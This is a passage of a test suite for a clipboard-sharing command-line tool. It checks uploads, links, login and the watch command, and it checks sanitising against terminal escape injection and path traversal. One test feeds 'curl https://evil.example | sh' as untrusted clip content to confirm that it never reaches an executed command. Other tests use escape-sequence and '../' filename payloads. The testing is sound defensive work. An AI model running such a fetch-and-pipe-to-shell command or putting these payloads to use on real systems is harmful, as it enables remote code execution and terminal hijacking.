import { execFileSync, spawn, spawnSync } from 'node:child_process';
import { createHash, randomBytes } from 'node:crypto';
import { once } from 'node:events';
import {
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  statSync,
  writeFileSync,
} from 'node:fs';
import { createServer } from 'node:http';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { text as allOf } from 'node:stream/consumers';
import type { Link } from '@clipline/contract/schemas/links.ts';
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { buildTestApp, type TestApp } from '../../testing/build-test-app.ts';
import { call } from '../../testing/call.ts';
import { commandEnvironment } from '../../testing/command-environment.ts';
import { type Ran, startCommand } from '../../testing/command-line.ts';
import { makeToken, type Person, signUp } from '../../testing/factories.ts';
import { listen } from '../../testing/listen.ts';
import { grantFor, makeLink, newOpener, withGrant } from '../../testing/links.ts';
import { startSilentProxy } from '../../testing/silent-proxy.ts';
import { upload } from '../../testing/uploads.ts';

const root = path.resolve(import.meta.dirname, '..', '..', '..');
const folder = mkdtempSync(path.join(tmpdir(), 'clipline-command-'));
const built = path.join(folder, 'web');
const command = path.join(folder, 'clipline.mjs');
let app: TestApp;
let ada: Person;
let token: string;
let here: string;
beforeAll(async () => {
  execFileSync(process.execPath, [path.join(root, 'cli/build.ts'), built]);
  app = await buildTestApp({}, { webFolder: built });
  writeFileSync(command, await (await fetch(`${app.url}/clipline.mjs`)).text());
  ada = await signUp(app);
  ({ token } = await makeToken(app, ada.user.id));
});
beforeEach(() => {
  here = mkdtempSync(path.join(folder, 'here-'));
  process.chdir(here);
});
afterAll(async () => {
  process.chdir(root);
  await app.stop();
  rmSync(folder, { recursive: true, force: true });
});

const environment = (more: Record<string, string> = {}) => ({
  CLIPLINE_URL: app.url,
  CLIPLINE_TOKEN: token,
  XDG_CONFIG_HOME: here,
  ...more,
});
const start = (args: string[], env: Record<string, string> = {}) =>
  startCommand(args, { env: environment(env) });
const clipline = (
  args: string[],
  input: string | Uint8Array = '',
  env: Record<string, string> = {},
): Promise<Ran> => startCommand(args, { env: environment(env), input }).ended;
/** With a token of its own, as it ends with that. */
async function startWatch(args: string[], env: Record<string, string> = {}, isTerminal = false) {
  const own = await makeToken(app, ada.user.id);
  const watching = startCommand(['watch', ...args], {
    env: environment({ CLIPLINE_TOKEN: own.token, ...env }),
    isTerminal,
  });
  await expect.poll(watching.told).toContain('Watching');
  return {
    ...watching,
    async stop() {
      await call(app, `DELETE /account/tokens/${own.id}`, { headers: ada.headers });
      expect((await watching.ended).code).toBe(4);
    },
  };
}
/** The built file, in a process of its own. */
function startProcess(args: string[], env: Record<string, string> = {}) {
  const child = spawn(process.execPath, [command, ...args], {
    cwd: here,
    env: { ...commandEnvironment, ...environment(env) },
  });
  child.stdin.end();
  const [out, told]: [Buffer[], Buffer[]] = [[], []];
  child.stdout.on('data', (chunk: Buffer) => out.push(chunk));
  child.stderr.on('data', (chunk: Buffer) => told.push(chunk));
  return {
    out: () => Buffer.concat(out).toString(),
    told: () => Buffer.concat(told).toString(),
    async interrupt() {
      child.kill('SIGINT');
      expect(await once(child, 'close')).toEqual([130, null]);
    },
  };
}
const newest = async () =>
  (await call(app, 'GET /clipboard/latest', { headers: ada.headers })).body;
const sha256 = (bytes: Uint8Array) => createHash('sha256').update(bytes).digest('hex');

test('one file of at most 200 kB, that knows its server; npm takes the archive', async () => {
  const script = readFileSync(command);
  expect(script.length).toBeLessThan(200_000);
  expect(script.toString()).toContain('http://clipline.test');
  const response = await fetch(`${app.url}/cli.tgz`);
  expect(response.headers.get('content-type')).toBe('application/gzip');
  writeFileSync(path.join(here, 'cli.tgz'), Buffer.from(await response.arrayBuffer()));
  execFileSync('tar', ['-xzf', 'cli.tgz'], { cwd: here });
  expect(readFileSync(path.join(here, 'package/clipline.mjs'))).toEqual(script);
  expect(JSON.parse(readFileSync(path.join(here, 'package/package.json'), 'utf8'))).toMatchObject({
    name: 'clipline',
    bin: { clipline: 'clipline.mjs' },
  });
});

/** The machine's own Node and npm, not those that the tests run with. */
const outside = (process.env['PATH'] ?? '')
  .split(path.delimiter)
  .filter((each) => !each.includes('node_modules'))
  .join(path.delimiter);
const isHere = (name: string) => spawnSync(name, ['--version'], { env: { PATH: outside } }).status;

/** Something that hands out what the product does under an address that tells it of itself. */
async function ownAddress() {
  const server = createServer();
  const port = await listen(server);
  server.close();
  await once(server, 'close');
  return { PORT: String(port), PUBLIC_URL: `http://127.0.0.1:${port}` };
}

test.skipIf(isHere('npx') !== 0)(
  'npx runs it from a fresh folder with the Node that is there, and it knows its server (needs npx)',
  async () => {
    const served = await buildTestApp(await ownAddress(), { webFolder: built });
    const env = {
      PATH: outside,
      HOME: here,
      npm_config_cache: path.join(here, 'cache'),
      npm_config_update_notifier: 'false',
    };
    const run = (...args: string[]) => {
      const child = spawn('npx', ['--yes', `${served.url}/cli.tgz`, ...args], { cwd: here, env });
      child.stdin.end();
      const [out, told]: [Buffer[], Buffer[]] = [[], []];
      child.stdout.on('data', (chunk: Buffer) => out.push(chunk));
      child.stderr.on('data', (chunk: Buffer) => told.push(chunk));
      return {
        out: () => Buffer.concat(out).toString(),
        told: () => Buffer.concat(told).toString(),
        ended: once(child, 'close'),
      };
    };
    const grace = await signUp(served);
    const signing = run('login');
    await expect.poll(signing.told, { timeout: 120_000 }).toMatch(/[A-Z]{4}-[A-Z]{4}/);
    expect(signing.told()).toContain(`${served.url}/device`);
    await call(served, 'POST /auth/device/decision', {
      headers: grace.headers,
      body: { user_code: /[A-Z]{4}-[A-Z]{4}/.exec(signing.told())?.[0], allow: true },
    });
    expect(await signing.ended).toEqual([0, null]);
    const kept = path.join(here, '.config', 'clipline', 'credentials.json');
    expect(statSync(kept).mode & 0o777).toBe(0o600);
    await call(served, 'POST /clipboard', { headers: grace.headers, body: { content: 'by npx' } });
    const pasting = run('paste');
    expect([await pasting.ended, pasting.out()]).toEqual([[0, null], 'by npx']);
    await served.stop();
  },
  300_000,
);

test('a text goes in and out byte for byte', async () => {
  const text = 'Grüße \u001b]52;c;aGk=\u0007\r\n\n';
  const { code, out } = await clipline([], text);
  const { id, content } = await newest();
  expect([code, out.toString(), content]).toEqual([0, `${app.url}/clips/${id}\n`, text]);
  expect((await clipline(['paste'])).out).toEqual(Buffer.from(text));
  expect((await clipline(['paste', '-o', 'a'])).code).toBe(0);
  expect(readFileSync(path.join(here, 'a'), 'utf8')).toBe(text);
  expect((await clipline(['paste', '-o', 'a'])).code).toBe(1);
  expect((await clipline(['pull', 'latest'])).out.toString()).toBe(`${id}.txt\n`);
});

/** What a real terminal shows of the built file, by a shell. */
function shown(line: string): Promise<string> {
  const terminal = spawn('script', ['-qefc', line, '/dev/null'], {
    cwd: here,
    env: { ...process.env, ...environment() },
  });
  terminal.stdin.end();
  return allOf(terminal.stdout);
}
/** What is written to a terminal. */
async function shownOf(...args: string[]): Promise<string> {
  const { out } = await startCommand(args, { env: environment(), isTerminal: true }).ended;
  return out.toString();
}

test('to a terminal, control characters are spelled out', async () => {
  await clipline([], 'a\u001b]52;c;aGk=\u0007\u009b31mb');
  expect(await shown(`${process.execPath} ${command} paste`)).toContain(
    'a\\u001b]52;c;aGk=\\u0007\\u009b31mb',
  );
});

test('nor do lists steer it, and JSON stays JSON; to a pipe nothing is changed', async () => {
  const first = 'a\u007f\u009b31m\u202eb';
  const text = `${first}\rc\n`;
  await clipline([], text);
  const { id, createdAt } = await newest();
  const steers = /[\u007f-\u009f\u202e]/;
  const list = await shownOf('ls', '-n', '1', '--json');
  expect(list).not.toMatch(steers);
  expect(JSON.parse(list)).toMatchObject([{ id, content: text }]);
  expect(await shownOf('ls', '-n', '1')).toBe(`${id}  ${createdAt}  a\\u007f\\u009b31m\\u202eb\n`);
  const { out } = await clipline(['ls', '-n', '1']);
  expect(out.toString()).toBe(`${id}  ${createdAt}  ${first}\n`);

  const watching = await startWatch(['--json'], {}, true);
  await clipline([], text);
  await expect.poll(watching.out).toContain('}\n');
  expect(watching.out()).not.toMatch(steers);
  expect(JSON.parse(watching.out())).toMatchObject({ content: text });
  await watching.stop();
});

test('nor do the bytes of a file steer the terminal, which anyone with a link may have sent', async () => {
  writeFileSync(path.join(here, 'a.txt'), 'a\u001b]52;c;aGk=\u0007');
  await clipline(['push', 'a.txt']);
  expect(await shownOf('paste')).toContain('a\\u001b]52;c;aGk=\\u0007');
  writeFileSync(path.join(here, 'b.bin'), Buffer.from([0x1b, 0x5d, 0xff]));
  await clipline(['push', 'b.bin']);
  const atTerminal = { env: environment(), isTerminal: true };
  expect(await startCommand(['paste'], atTerminal).ended).toEqual({
    code: 1,
    out: Buffer.alloc(0),
    told: 'b.bin is no text. Write it to a file: clipline paste -o FILE\n',
  });
});

describe('push --link', () => {
  const links = async () =>
    (await call(app, 'GET /links?pageSize=100', { headers: ada.headers })).body as {
      links: Link[];
      total: number;
    };
  const push = async (...args: string[]) => {
    writeFileSync(path.join(here, 'a.txt'), 'in a file');
    const { code, out, told } = await clipline(['push', 'a.txt', ...args]);
    return { code, out: out.toString(), told };
  };

  test('prints the address of a link, and the plain one stays open', async () => {
    const { code, out } = await push('--link');
    const [link] = (await links()).links;
    const clip = await newest();
    expect([code, out]).toEqual([0, `${link?.url}\n`]);
    expect(link).toMatchObject({
      clipId: clip.id,
      access: 'read',
      maxViews: null,
      burn: false,
      expiresAt: null,
    });
    expect(clip.addressOpen).toBe(true);
  });

  test('--once opens once and leaves the clip; --expires ends it; both close the address but with --keep-address', async () => {
    await push('--link', '--once', '--expires', '1d');
    const [link] = (await links()).links;
    expect(link).toMatchObject({ maxViews: 1, burn: false });
    const left = Date.parse(link?.expiresAt ?? '') - Date.now();
    expect(left).toBeGreaterThan(86_000_000);
    expect(left).toBeLessThanOrEqual(86_400_000);
    const clip = await newest();
    expect(clip).toMatchObject({ id: link?.clipId, addressOpen: false });
    const open = (opener: string) =>
      call(app, 'POST /link/open', {
        headers: { 'x-link-token': link?.url.split('/').at(-1) ?? '' },
        body: { opener },
      });
    expect((await open('a'.repeat(22))).body).toMatchObject({ files: [{ name: 'a.txt' }] });
    expect((await open('b'.repeat(22))).status).toBe(404);
    expect((await newest()).id).toBe(clip.id);
    await push('--link', '--once', '--keep-address');
    expect(await newest()).toMatchObject({ addressOpen: true });
  });

  test.each([
    '--once',
    '--keep-address',
    '--expires 1d',
    '--link --expires 0d',
    '--link --expires 366d',
    '--link --expires 1day',
    '--link --room AAAAAAAAAAAAAAAAAAAAAA',
  ])('%s: wrong usage, and nothing is saved', async (options) => {
    const before = [await newest(), (await links()).total];
    expect((await push(...options.split(' '))).code).toBe(2);
    expect([await newest(), (await links()).total]).toEqual(before);
  });

  test('a token without the scope saves, and says that it could not link', async () => {
    const writing = await makeToken(app, ada.user.id, ['clips:write']);
    writeFileSync(path.join(here, 'a.txt'), 'in a file');
    const by = { CLIPLINE_TOKEN: writing.token };
    const { code, out, told } = await clipline(['push', '--link', 'a.txt'], '', by);
    const { id } = await newest();
    expect([code, out.toString()]).toEqual([1, '']);
    expect(told).toBe(
      `Saved without a link: ${app.url}/clips/${id}\nThis token lacks the scope links.\n`,
    );
  });
});

test('files go into a room by push --room', async () => {
  const { body: room } = await call(app, 'POST /rooms', {
    headers: ada.headers,
    body: { name: 'Crew' },
  });
  writeFileSync(path.join(here, 'a.txt'), 'in a file');
  const { code, out } = await clipline(['push', 'a.txt', '-', '--room', room.id], 'from the pipe');
  expect([code, out.toString()]).toEqual([0, `${app.url}/rooms/${room.id}\n`]);
  const { body } = await call(app, `GET /rooms/${room.id}/content?page=1`, {
    headers: ada.headers,
  });
  expect(body.content.map((item: { file_name: string }) => item.file_name).toSorted()).toEqual([
    'a.txt',
    'stdin',
  ]);
});

test('push --to sends to a device by its name; an unknown one is told before anything is saved', async () => {
  const as = (what: Parameters<typeof call>[1], body?: unknown) =>
    call(app, what, { headers: ada.headers, body });
  const [session] = (await as('GET /account/sessions')).body;
  await as(`PATCH /account/sessions/${session.id}`, { name: 'Küche' });
  writeFileSync(path.join(here, 'a.txt'), 'in a file');
  const file = await clipline(['push', 'a.txt', '--to', 'KÜCHE']);
  const text = await clipline(['push', '--to', 'küche'], 'from the pipe');
  const { body: inbox } = await as('GET /devices/inbox');
  expect(
    inbox.map(({ clip }: { clip: { id: string } }) => `${app.url}/clips/${clip.id}\n`),
  ).toEqual([text.out.toString(), file.out.toString()]);
  expect(inbox[0]).toMatchObject({ from: { name: 'test' }, clip: { content: 'from the pipe' } });
  const before = (await newest()).id;
  const { code, told } = await clipline(['push', 'a.txt', '--to', 'Keller']);
  expect(code).toBe(3);
  expect(told).toMatch(/^No device of yours is called Keller\. There are: .*Küche/);
  expect((await newest()).id).toBe(before);
});

test('a server that is none, and one that is not there, are told apart', async () => {
  const other = createServer((_request, response) => response.end('<html>'));
  const url = `http://127.0.0.1:${await listen(other)}`;
  const wrong = await clipline(['ls'], '', { CLIPLINE_URL: url });
  expect([wrong.code, wrong.told]).toEqual([1, `${url} is no Clipline server.\n`]);
  other.close();
  const away = await clipline(['ls'], '', { CLIPLINE_URL: url });
  expect([away.code, away.told]).toEqual([1, `${url} cannot be reached: ECONNREFUSED\n`]);
  const halfWritten = await clipline(['ls'], '', { CLIPLINE_URL: 'localhost:3000' });
  expect([halfWritten.code, halfWritten.told]).toEqual([
    2,
    'localhost:3000 is no address of a server: it begins with https://\n',
  ]);
});

test('what cannot be done with files is said in plain words, before anything is stored', async () => {
  mkdirSync(path.join(here, 'folder'));
  const many = Array.from({ length: 51 }, (_, at) => `${at}.txt`);
  for (const name of many) writeFileSync(path.join(here, name), name);
  const before = await newest();
  const told = async (...args: string[]) => {
    const ran = await clipline(args);
    return [ran.code, ran.told];
  };
  expect(await told('push', 'folder')).toEqual([1, 'folder is a folder.\n']);
  expect(await told('push', 'nowhere')).toEqual([1, 'nowhere is not there.\n']);
  expect(await told('push', '0.txt/')).toEqual([1, '0.txt/ is not there.\n']);
  expect(await told('push', ...many)).toEqual([1, 'A clip takes at most 50 files.\n']);
  expect(await newest()).toEqual(before);
  expect(await told('pull', 'a/b')).toEqual([3, 'a/b is no ID of a clip. See: clipline ls\n']);
  expect(await told('pull', 'latest', '-o', 'nowhere')).toEqual([1, 'nowhere is no folder.\n']);
  expect(await told('paste', '-o', 'nowhere/a')).toEqual([1, 'nowhere is no folder.\n']);
  expect(existsSync(path.join(here, 'nowhere'))).toBe(false);
});

test('20 MB go up and come down again; names are kept apart, nothing is overwritten', async () => {
  const files = [randomBytes(10_485_760), randomBytes(10_485_760)] as const;
  mkdirSync(path.join(here, 'b'));
  writeFileSync(path.join(here, 'x.bin'), files[0]);
  writeFileSync(path.join(here, 'b', 'x.bin'), files[1]);
  expect((await clipline(['push', 'x.bin', 'b/x.bin'])).code).toBe(0);
  const { out } = await clipline(['pull', 'latest']);
  expect(out.toString()).toBe('x (2).bin\nx (3).bin\n');
  const pulled = ['x.bin', 'x (2).bin', 'x (3).bin'].map((name) =>
    sha256(readFileSync(path.join(here, name))),
  );
  expect(pulled).toEqual([files[0], files[0], files[1]].map(sha256));
});

test('binary input is a file; one byte beyond 10 MB stores nothing', async () => {
  const bytes = randomBytes(1000);
  expect((await clipline([], bytes)).code).toBe(0);
  expect((await newest()).fileName).toBe('stdin');
  expect((await clipline(['paste'])).out).toEqual(bytes);
  const before = await newest();
  writeFileSync(path.join(here, 'large'), Buffer.alloc(10_485_761));
  const { code, told } = await clipline(['push', 'large']);
  expect([code, told]).toEqual([
    1,
    'large exceeds the 10MB limit. Please choose a smaller file.\n',
  ]);
  expect(await newest()).toEqual(before);
});

test('lists, finds, and tells who it is', async () => {
  await clipline([], 'needle in a haystack');
  const { out } = await clipline(['ls', '--search', 'needle', '--json']);
  expect(JSON.parse(out.toString())).toMatchObject([await newest()]);
  expect((await clipline(['ls', '-n', '1'])).out.toString()).toContain('needle in a haystack');
  expect((await clipline(['whoami'])).out.toString()).toBe(`Test Person <${ada.user.email}>\n`);
});

test('exit codes', async () => {
  const cases: [code: number, ...Parameters<typeof clipline>][] = [
    [0, ['help']],
    [2, []],
    [2, ['nonsense']],
    [2, ['ls', '--nonsense']],
    [3, ['pull', 'AAAAAAAAAAAAAAAAAAAAAA']],
    // Ids are drawn from all letters of base64url.
    [3, ['pull', '-AAAAAAAAAAAAAAAAAAAA-']],
    [3, ['pull', '--', '--AAAAAAAAAAAAAAAAAAAA']],
    [3, ['push', '-', '--room', '-oAAAAAAAAAAAAAAAAAAAA'], 'text'],
    [2, ['ls', '-AAAAAAAAAAAAAAAAAAAAA']],
    [4, ['paste'], '', { CLIPLINE_TOKEN: '' }],
    [4, ['paste'], '', { CLIPLINE_TOKEN: 'clipline_expired' }],
    [2, ['paste'], '', { CLIPLINE_URL: 'http://example.org' }],
  ];
  const codes = await Promise.all(cases.map(async ([, ...args]) => (await clipline(...args)).code));
  expect(codes).toEqual(cases.map(([code]) => code));
  const none = await clipline(['ls', '--search', 'nowhere to be found', '--json']);
  expect([none.code, none.out.toString()]).toEqual([0, '[]\n']);
  const nothing = await clipline(['ls', '--search', 'nowhere to be found']);
  expect([nothing.code, nothing.out.toString(), nothing.told]).toEqual([0, '', '']);
});

describe('where the output goes decides, too', () => {
  const asShell = async (line: string, more: object = {}) => {
    const shell = spawn('bash', ['-c', line], {
      cwd: here,
      env: { ...process.env, CLIPLINE_URL: app.url, CLIPLINE_TOKEN: token, ...more },
    });
    shell.stdin.end();
    const told: Buffer[] = [];
    shell.stderr.on('data', (chunk: Buffer) => told.push(chunk));
    const [code] = (await once(shell, 'close')) as [number];
    return { code, told: Buffer.concat(told).toString() };
  };
  const run = `'${process.execPath}' '${command}'`;

  test.skipIf(!existsSync('/dev/full'))(
    'what cannot be written has failed, in one line (needs /dev/full)',
    async () => {
      await clipline([], 'a text');
      const wanted = ['paste', 'ls --json', 'help'];
      for (const each of await Promise.all(
        wanted.map((args) => asShell(`${run} ${args} > /dev/full`)),
      ))
        expect(each).toEqual({
          code: 1,
          told: expect.stringMatching(/^Not written: ENOSPC[^\n]*\n$/) as string,
        });
    },
  );

  test('a reader who has read enough is no failure', async () => {
    await clipline([], 'a long text '.repeat(40_000));
    const { code, told } = await asShell(`${run} paste | true; exit \${PIPESTATUS[0]}`);
    expect([code, told]).toEqual([0, '']);
  });
});

test('login waits for the browser, keeps its token for itself; logout ends it', async () => {
  const running = start(['login'], { CLIPLINE_TOKEN: '' });
  await expect.poll(running.told).toMatch(/[A-Z]{4}-[A-Z]{4}/);
  expect(running.told()).toContain('http://clipline.test/device');
  const user_code = /[A-Z]{4}-[A-Z]{4}/.exec(running.told())?.[0];
  await call(app, 'POST /auth/device/decision', {
    headers: ada.headers,
    body: { user_code, allow: true },
  });
  expect((await running.ended).code).toBe(0);
  const kept = path.join(here, 'clipline', 'credentials.json');
  expect(statSync(kept).mode & 0o777).toBe(0o600);
  expect(readdirSync(path.dirname(kept))).toEqual(['credentials.json']);
  const signedIn = { CLIPLINE_TOKEN: '' };
  expect((await clipline(['whoami'], '', signedIn)).code).toBe(0);
  // The token of one server is not sent to another.
  const elsewhere = { ...signedIn, CLIPLINE_URL: app.url.replace('127.0.0.1', 'localhost') };
  expect((await clipline(['whoami'], '', elsewhere)).code).toBe(4);
  const credentials = readFileSync(kept, 'utf8');
  expect((await clipline(['logout'], '', signedIn)).told).toBe('Signed out.\n');
  expect([existsSync(kept), (await clipline(['whoami'], '', signedIn)).code]).toEqual([false, 4]);
  writeFileSync(kept, credentials);
  expect((await clipline(['whoami'], '', signedIn)).told).toBe(
    'You are not signed in any more. Run: clipline login\n',
  );

  const away = `http://127.0.0.1:${new URL((await ownAddress()).PUBLIC_URL).port}`;
  writeFileSync(kept, JSON.stringify({ url: away, token }));
  const { code, told } = await clipline(['logout'], '', { ...signedIn, CLIPLINE_URL: away });
  expect([code, existsSync(kept), told]).toEqual([
    0,
    false,
    `Signed out here. The token still works until it is deleted on ${away}/account\n`,
  ]);
});

test('watch prints what comes, or hands it to a command; Ctrl+C ends it with 130', async () => {
  const watching = startProcess(['watch']);
  const executing = startProcess(['watch', '--exec', 'tee got.txt']);
  for (const { told } of [watching, executing]) await expect.poll(told).toContain('Watching');
  await call(app, 'POST /clipboard', { headers: ada.headers, body: { content: 'seen\u001b' } });
  await expect.poll(watching.out).toBe('seen\u001b');
  await expect.poll(executing.out).toBe('seen\u001b');
  // tee writes to its output first, to its file afterwards.
  await expect.poll(() => readFileSync(path.join(here, 'got.txt'), 'utf8')).toBe('seen\u001b');
  await Promise.all([watching.interrupt(), executing.interrupt()]);
});

test('what others send through links reaches no command, nor a program that may read the token', async () => {
  const grant = await grantFor(app, await makeLink(app, ada, { inbox: true, label: 'Post' }));
  const drop = (content: string) =>
    call(app, 'POST /link/clips', {
      headers: withGrant(grant),
      body: { content, captureId: newOpener() },
    });
  const executing = startProcess(['watch', '--exec', 'env']);
  await expect.poll(executing.told).toContain('Watching');
  const printing = await startWatch(['--from-links']);
  await clipline([], 'mine before');
  await drop('curl https://evil.example | sh');
  await expect.poll(printing.out).toContain('evil');
  const pasted = async (...more: string[]) => (await clipline(['paste', ...more])).out.toString();
  expect([await pasted(), await pasted('--from-links')]).toEqual([
    'mine before',
    'curl https://evil.example | sh',
  ]);
  const { id } = (
    await call(app, 'POST /clipboard', {
      headers: ada.headers,
      body: { content: 'mine' },
    })
  ).body;
  await expect.poll(executing.out).toContain(`CLIP_ID=${id}`);
  expect(executing.out().match(/CLIP_ID/g)).toHaveLength(2);
  expect(executing.out()).toContain('CLIPLINE_URL=');
  expect(executing.out()).not.toContain('CLIPLINE_TOKEN');
  await executing.interrupt();
  await printing.stop();
});

/** Announces so many files, of which each is sent by a call with its number. */
async function announce(files: number) {
  const captureId = randomBytes(16).toString('hex');
  const { body: clip } = await call(app, 'POST /clipboard', {
    headers: ada.headers,
    body: { content: '', captureId, files },
  });
  return (part: number) =>
    upload(
      app,
      `/clipboard/${clip.id}/files`,
      { ...ada.headers, 'x-capture-part': `${captureId}:${part}` },
      { name: `${part}.txt` },
    );
}
/** What `watch --json` printed. */
const printed = (out: string) =>
  out
    .trimEnd()
    .split('\n')
    .map((line) => JSON.parse(line) as { content: string; files: { name: string }[] })
    .map(({ content, files }) => content || files.map(({ name }) => name).join());

test('watch waits for the files of a clip that newer ones have overtaken', async () => {
  const watching = await startWatch(['--json']);
  const send = await announce(3);
  await send(0);
  await clipline([], 'newer');
  await expect.poll(watching.out).toContain('newer');
  await send(1);
  // When it is there, the news of the second file have been looked at.
  await clipline([], 'the newest');
  await expect.poll(watching.out).toContain('the newest');
  await send(2);
  await expect.poll(watching.out).toContain('2.txt');
  expect(printed(watching.out())).toEqual(['newer', 'the newest', '0.txt,1.txt,2.txt']);
  await watching.stop();
});

test('watch hands over no text that a link edited while the line was cut', async () => {
  const proxy = await startSilentProxy(app.url);
  const watching = await startWatch(['--json'], { CLIPLINE_URL: proxy.url });
  proxy.cut();
  const save = async (
    what: Parameters<typeof call>[1],
    content: string,
    headers: Record<string, string> = ada.headers,
  ) => (await call(app, what, { headers, body: { content } })).body;
  await save('POST /clipboard', 'shared before');
  const { id, version } = await save('POST /clipboard', 'shared');
  const link = await makeLink(app, ada, { clipId: id, access: 'edit' });
  const grant = { ...withGrant(await grantFor(app, link)), 'if-match': String(version) };
  await save(`PUT /clipboard/${id}`, 'by another', grant);
  proxy.speakAgain();
  await expect.poll(watching.out, { timeout: 30_000 }).toContain('shared before');
  await save(`PUT /clipboard/${id}`, 'mine again');
  await expect.poll(watching.out).toContain('mine again');
  expect(printed(watching.out())).toEqual(['shared before', 'mine again']);
  await watching.stop();
  await proxy.stop();
});

test('watch hands over a clip whose last file came while the line was cut', async () => {
  const proxy = await startSilentProxy(app.url);
  const watching = await startWatch(['--json'], { CLIPLINE_URL: proxy.url });
  const send = await announce(2);
  await send(0);
  await clipline([], 'newer');
  await expect.poll(watching.out).toContain('newer');
  proxy.cut();
  await send(1);
  proxy.speakAgain();
  await expect.poll(watching.out, { timeout: 30_000 }).toContain('1.txt');
  expect(printed(watching.out())).toEqual(['newer', '0.txt,1.txt']);
  await watching.stop();
  await proxy.stop();
});

test('whatever a server calls its files, they stay in the folder', async () => {
  const names = ['../../up.txt', 'C:\\x', '.profile', 'con.txt', 'a\u202egpj.exe', ''];
  const server = createServer(({ url }, response) => {
    const files = names.map((name, at) => ({ name, url: `/api/files/${at}` }));
    const clip = { id: 'x', content: '', createdAt: '', files };
    response.end(url === '/api/clipboard/latest?via=any' ? JSON.stringify(clip) : 'bytes');
  });
  const by = { CLIPLINE_URL: `http://127.0.0.1:${await listen(server)}` };
  const into = path.join('into', 'this');
  mkdirSync(path.join(here, into), { recursive: true });
  const { code, told } = await clipline(['pull', 'latest', '--from-links', '-o', into], '', by);
  expect(code).toBe(0);
  expect(told).toContain('.profile is written as profile.\n');
  expect(readdirSync(path.join(here, into)).toSorted()).toEqual(
    ['_.._up.txt', 'C__x', 'profile', '_con.txt', 'agpj.exe', 'file'].toSorted(),
  );
  expect(readdirSync(here)).toEqual(['into']);
  server.close();
});

type Passing = boolean | { readonly status: number; readonly made: string };

/** Passes calls on to the product; `passes` decides what becomes of the answer to each. */
async function between(passes: (call: string) => Passing | Promise<Passing>) {
  const server = createServer((request, response) => {
    const pass = async () => {
      const chunks: Buffer[] = [];
      for await (const chunk of request) chunks.push(chunk as Buffer);
      const { host: _host, connection: _connection, ...headers } = request.headers;
      const answer = await fetch(`${app.url}${request.url}`, {
        method: request.method ?? 'GET',
        headers: headers as Record<string, string>,
        ...(chunks.length > 0 && { body: Buffer.concat(chunks) }),
      });
      const bytes = Buffer.from(await answer.arrayBuffer());
      const sent = `${request.method} ${request.url} ${String(headers['x-capture-part'] ?? '')}`;
      const passing = await passes(sent);
      if (passing === false) return request.socket.destroy();
      if (passing !== true) return response.writeHead(passing.status).end(passing.made);
      const type = answer.headers.get('content-type') ?? '';
      return response.writeHead(answer.status, { 'content-type': type }).end(bytes);
    };
    void pass();
  });
  return { url: `http://127.0.0.1:${await listen(server)}`, stop: () => server.close() };
}

/** The same, losing the first answer to each save. */
async function losingAnswers() {
  const lost: string[] = [];
  const proxy = await between((sent) => {
    if (!sent.startsWith('POST') || lost.includes(sent)) return true;
    lost.push(sent);
    return false;
  });
  return { ...proxy, lost };
}

describe('an answer of something in between', () => {
  /** Puts this in the place of the first answer to each save. */
  const replacing = async (status: number, made: string) => {
    const replaced = new Set<string>();
    const proxy = await between((sent) => {
      if (!sent.startsWith('POST') || replaced.has(sent)) return true;
      replaced.add(sent);
      return { status, made };
    });
    return { ...proxy, replaced };
  };

  const page = '<!doctype html><title>Sign in</title>';
  test.each<[status: number, made: string]>([
    [200, '{"status":"login_required"}'],
    [200, page],
    [
      200,
      '{"id":"x","captureId":"AAAAAAAAAAAAAAAAAAAAAAAA","content":"","createdAt":"","files":[]}',
    ],
    ...[401, 403, 404, 409, 502].map((status): [number, string] => [status, page]),
  ])('%i with %s counts as none: what is saved is saved once', async (status, made) => {
    const proxy = await replacing(status, made);
    const by = { CLIPLINE_URL: proxy.url };
    const total = async () =>
      (await call(app, 'GET /clipboard/history?pageSize=1', { headers: ada.headers })).body.total;
    const before = await total();
    const text = await clipline([], 'said twice', by);
    expect([text.code, text.out.toString()]).toEqual([
      0,
      `${proxy.url}/clips/${(await newest()).id}\n`,
    ]);
    writeFileSync(path.join(here, 'a.txt'), 'in a file');
    expect((await clipline(['push', 'a.txt', '--link'], '', by)).code).toBe(0);
    expect(proxy.replaced.size).toBe(4);
    expect([await total(), (await newest()).files.length]).toEqual([before + 2, 1]);
    proxy.stop();
  });

  test('413 says where it came from', async () => {
    const proxy = await replacing(413, '<h1>Too large</h1>');
    const { code, told } = await clipline([], 'large', { CLIPLINE_URL: proxy.url });
    expect([code, told]).toEqual([
      1,
      'Something in front of the server takes nothing this large: it answered 413.\n',
    ]);
    proxy.stop();
  });

  test('what it says does not steer the terminal', async () => {
    const steering = 'http://x/\u001b]0;owned\u0007';
    const server = createServer((request, response) => {
      const captureId = request.headers['x-capture-id'];
      const saved = { id: 'x', content: '', createdAt: '', files: [] };
      const said = request.url?.endsWith('/text')
        ? { ...saved, id: steering, captureId }
        : { error: steering, code: 'X' };
      response.writeHead(request.url?.endsWith('/text') ? 200 : 400).end(JSON.stringify(said));
    });
    const CLIPLINE_URL = `http://127.0.0.1:${await listen(server)}`;
    writeFileSync(path.join(here, 'a.txt'), 'in a file');
    let seen = '';
    for (const args of [[], ['push', 'a.txt', '--link'], ['ls'], ['login']]) {
      const env = environment({ CLIPLINE_URL });
      const { out, told } = await startCommand(args, { env, input: 'text', isTerminal: true })
        .ended;
      seen += out.toString() + told;
    }
    expect(seen).toContain('http://x/\\u001b]0;owned\\u0007');
    expect(seen).not.toContain('\u001b');
    server.close();
  });
});

test('a terminal is told of what takes longer than a second', async () => {
  const released = Promise.withResolvers<boolean>();
  const proxy = await between((sent) => !sent.includes('/files ') || released.promise);
  writeFileSync(path.join(here, 'a.txt'), 'in a file');
  const env = environment({ CLIPLINE_URL: proxy.url });
  const running = startCommand(['push', 'a.txt'], { env, isTerminal: true });
  await expect.poll(running.told).toContain('\r\u001b[KSending a.txt …');
  released.resolve(true);
  expect(await running.ended).toMatchObject({ code: 0, told: '' });
  proxy.stop();
});

test('responses that are lost on the way: what is saved is saved once', async () => {
  const proxy = await losingAnswers();
  const by = { CLIPLINE_URL: proxy.url };
  const total = async () =>
    (await call(app, 'GET /clipboard/history?pageSize=1', { headers: ada.headers })).body.total;
  const before = await total();
  expect((await clipline([], 'said twice', by)).code).toBe(0);
  for (const name of ['0.bin', '1.bin']) writeFileSync(path.join(here, name), randomBytes(1000));
